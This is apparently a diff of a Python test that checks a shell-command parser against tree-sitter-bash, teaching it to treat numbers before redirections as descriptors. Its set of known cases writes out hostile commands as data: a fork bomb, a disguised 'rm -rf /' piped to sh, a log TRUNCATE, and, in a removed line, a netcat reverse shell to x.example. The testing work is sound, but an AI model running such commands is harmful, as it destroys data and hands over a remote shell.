@@ -6,8 +6,9 @@ Differences that are meant:
 - What tree-sitter-bash itself calls an error is not compared; how much that may be is asserted.
 - A line continuation behind a word is no part of it.
 - The default in ${x:-$(...)} does not run where x is known: the nested commands have no such x.
+- A number before `<` is a descriptor, which tree-sitter-bash sometimes takes for a word.
 - KNOWN: commands of the lists that tree-sitter-bash reads otherwise than bash does: `{:`, a backslash behind braces,
-  words and `0<` behind a redirection.
+  words behind a redirection.
 - Words whose braces make several words are compared as they stand.
 """
 
@@ -26,8 +27,7 @@ from tree_sitter import Language, Node, Parser
 
 ROOT = Path(__file__).resolve().parents[1]
 LISTS = ROOT / "tests" / "risk"
-KNOWN = {b":(){:|:&};:", rb"echo {r,m}\ -rf\ / | tr -d ' ' | sh", b"mysql app < /dev/null -e 'TRUNCATE logs'",
-         b"rm -f /tmp/p; mknod /tmp/p p && nc x.example 4444 0</tmp/p | /bin/bash 1>/tmp/p"}  # fmt: skip
+KNOWN = {b":(){:|:&};:", rb"echo {r,m}\ -rf\ / | tr -d ' ' | sh", b"mysql app < /dev/null -e 'TRUNCATE logs'"}
 KEYWORDS = {b"time", b"coproc"}
 # Children of a command that are not words of it.
 BESIDE = {"file_redirect", "herestring_redirect", "heredoc_redirect", "comment", "variable_assignment", "heredoc_body", "\n", ";"}
@@ -45,10 +45,15 @@ def walk(node: Node) -> list[Node]:
     return out
 
 
-def words_of(node: Node) -> Words:
+def is_descriptor(node: Node, command: bytes) -> bool:
+    return node.type == "number" and command[node.end_byte : node.end_byte + 1] in (b"<", b">")
+
+
+def words_of(node: Node, command: bytes) -> Words:
     """The words of a command as they stand in the text."""
     children = node.children if node.type != "command" else [child for child in node.children if child.type not in BESIDE]
-    words = [child.text or b"" for child in children if child.type not in BESIDE - {"variable_assignment"}]
+    beside = BESIDE - {"variable_assignment"}
+    words = [child.text or b"" for child in children if child.type not in beside and not is_descriptor(child, command)]
     while words and (words[0] in KEYWORDS or (words[0] == b"-p" and node.text and node.text.startswith(b"time"))):
         words = words[1:]
     return tuple(words)
@@ -112,12 +117,12 @@ def differences(program: Path, commands: list[bytes]) -> tuple[list[str], int]:
             continue
         compared += 1
         nodes = [node for node in walk(root) if node.type in COMMANDS]
-        theirs = {words for node in nodes if (words := words_of(node)) and words[0] != b"["}
+        theirs = {words for node in nodes if (words := words_of(node, command)) and words[0] != b"["}
         mine = {words for words in ours if words[0] != b"["}
         if theirs != mine:
             wrong.append(f"{command.decode()!r}\n    only tree-sitter: {theirs - mine}\n    only ours: {mine - theirs}")
         for node in nodes:
-            became = ours.get(words_of(node), {})
+            became = ours.get(words_of(node, command), {})
             for child in node.children:
                 text = plain(child)
                 if child.type not in BESIDE and text is not None and became.get(child.text or b"", text.hex()) != text.hex():
